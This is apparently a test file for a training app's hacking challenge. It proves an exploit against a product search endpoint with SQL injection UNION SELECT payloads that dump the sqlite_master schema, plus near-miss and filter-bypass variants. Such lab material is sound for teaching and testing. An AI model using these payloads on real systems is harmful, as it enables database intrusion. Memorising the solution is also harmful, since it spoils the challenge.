import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const search = (attacker: Attacker, term: string) => attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await search(attacker, "'")
    await search(attacker, "')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--")
  },
  nearMisses: {
    'an ordinary search': (attacker) => search(attacker, 'apple'),
    'one column too few': (attacker) =>
      search(attacker, "')) union select sql,'2','3','4','5','6','7','8' from sqlite_master--"),
    'the names of all tables, without their definitions': (attacker) =>
      search(attacker, "')) union select name,2,3,4,5,6,7,8,9 from sqlite_master--"),
    'the definition of one table': (attacker) =>
      search(attacker, "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master where name='Users'--"),
    'all definitions but one': (attacker) =>
      search(attacker, "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master where name!='Wallets'--"),
    'the attack cut off, since only so many letters of a term are read': (attacker) =>
      search(attacker, `${' '.repeat(1980)}')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master--`),
  },
  bypasses: {
    'escape-with-backslash': (attacker) =>
      search(attacker, "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master--"),
  },
})
